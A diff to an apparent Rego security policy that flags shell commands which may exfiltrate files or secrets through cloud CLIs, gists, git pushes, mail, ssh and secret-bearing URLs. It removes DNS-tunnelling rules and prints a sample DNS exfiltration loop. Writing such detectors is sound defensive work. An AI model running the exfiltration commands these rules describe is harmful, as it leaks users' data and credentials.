@@ -15,6 +15,7 @@ package hookguard.rules.exfil.upload
 import data.hookguard.lib.flow
 import data.hookguard.lib.network
 import data.hookguard.lib.path
+import data.hookguard.lib.secret_names
 import data.hookguard.lib.shell
 import data.hookguard.lib.url
 import data.hookguard.lib.verbs
@@ -38,46 +39,61 @@ ask contains {
 	"evidence": c.text,
 } if {
 	some j, c in shell.commands
-	network.sends(c)
+	may_send(c)
 	carries_file(j, c)
 	not network.stays_here(j)
 	not verbs.is_trial(c)
 }
 
-# Names that are looked up carry what they are made of to the name's owner.
-deny contains {
-	"reason": "This puts data into a name that is looked up, which sends it away.",
-	"fix": "Look up the plain name.",
+may_send(c) if network.sends(c)
+
+may_send(c) if c.program in {"aws", "gcloud", "gsutil", "mc", "s3cmd"}
+
+# Code that reads a file which isn't the project's, and talks to another machine.
+ask contains {
+	"reason": "This code reads a file outside the project, and talks to another machine.",
+	"fix": "Tell the user what would be sent and where, and let them decide.",
+	"evidence": p.given,
+} if {
+	some p in path.read
+	shell.commands[p.command].code.text != null
+	is_elsewhere(p)
+	network.reaches_out(p.command)
+}
+
+# Pastes, and pushes to a place that is no remote of the repository.
+ask contains {
+	"reason": "This sends files to a place outside the project's remotes.",
+	"fix": "Tell the user what would be sent and where, and let them decide.",
 	"evidence": c.text,
 } if {
 	some j, c in shell.commands
-	c.program in (network.name_clients | {"ping", "ping6"})
-	shell.unknown_operand(c)
-	some i in flow.within(j)
-	gives_contents(i)
+	shares(j, c)
+	not verbs.is_trial(c)
 }
 
-# `for l in $(xxd -p f); do dig $l.example.com; done`
+shares(_, c) if verbs.does(c, {"gh": {["gist", "create"], ["gist", "edit"]}, "glab": {["snippet", "create"]}})
+
+shares(j, c) if {
+	c.program == "git"
+	c.subcommand == ["push"]
+	network.reaches_out(j)
+}
+
+# `https://host/$TOKEN`: an address made of a secret.
 ask contains {
-	"reason": "This looks up names made of encoded data, which sends it away.",
-	"fix": "Look up the plain name.",
-	"evidence": c.text,
+	"reason": "This puts a secret into an address, which is logged on the way.",
+	"fix": "Send it in a header.",
+	"evidence": word.text,
 } if {
+	some word in input.shell.unresolved
+	contains(word.text, "://")
+	some name in secret_names.variables(word.text)
+	secret_names.is_secret(name)
 	some c in shell.commands
-	c.program in network.name_clients
-	shell.unknown_operand(c)
-	some e in shell.commands
-	e.program in encoders
+	c.program in network.web_clients
+	contains(c.text, word.text)
 }
-
-gives_contents(i) if shell.commands[i].program in (encoders | {"whoami", "id", "env", "printenv"})
-
-gives_contents(i) if {
-	some p in path.read
-	p.command == i
-}
-
-encoders := {"base32", "base64", "basenc", "gzip", "hexdump", "od", "openssl", "xxd"}
 
 carries_data(j, c) if carries_file(j, c)
 
@@ -146,6 +162,12 @@ carries_file(j, c) if {
 	network.has_address(j)
 }
 
+carries_file(_, c) if {
+	c.program in {"mail", "mailx", "mutt", "sendmail", "msmtp"}
+	some redirect in c.redirects
+	redirect.op == "<"
+}
+
 carries_file(j, c) if {
 	c.program in network.socket_clients
 	network.has_address(j)
@@ -154,19 +176,49 @@ carries_file(j, c) if {
 	p.command == i
 }
 
+# What a substitution reads outside the project, wherever it stands in the call.
+carries_file(j, c) if {
+	c.program in network.web_clients
+	some i in flow.within(j)
+	some p in path.read
+	p.command == i
+	is_elsewhere(p)
+}
+
 # Attachments.
 carries_file(_, c) if {
 	c.program in {"mail", "mailx", "mutt", "swaks"}
 	shell.has_option(c, {"-a", "-A", "--attach"})
 }
 
-# Copies to another machine, of what isn't a part of the project.
+# Copies to another machine or a cloud, of what is more than a part of the project.
 carries_file(j, c) if {
-	c.program in {"rsync", "scp"}
-	is_remote(c.operands[count(c.operands) - 1])
+	copies_away(c)
 	some p in path.read
 	p.command == j
-	is_elsewhere(p)
+	is_much(p)
+}
+
+copies_away(c) if {
+	c.program in {"rsync", "scp"}
+	is_remote(c.operands[count(c.operands) - 1])
+}
+
+copies_away(c) if {
+	c.program in {"aws", "gsutil", "gcloud", "rclone", "s3cmd", "mc"}
+	last := c.operands[count(c.operands) - 1]
+	is_remote(last)
+	some verb in verbs.words(c)
+	verb in {"cp", "mv", "sync", "rsync", "copy", "copyto", "move", "put"}
+}
+
+carries_file(j, c) if {
+	c.program == "ssh"
+	some i in flow.before(j)
+	packs(shell.commands[i])
+	some p in path.read
+	p.command == i
+	is_much(p)
 }
 
 is_remote(operand) if {
@@ -203,6 +255,11 @@ is_elsewhere(p) if {
 	not p.in_project
 	not path.under_any(p, {"/tmp", "/var/tmp", "/private/tmp", "/var/folders", "/dev"})
 }
+
+# The whole project, or what isn't the project's.
+is_much(p) if is_elsewhere(p)
+
+is_much(p) if path.holds(p, ".")
 
 # METADATA
 # title: drops
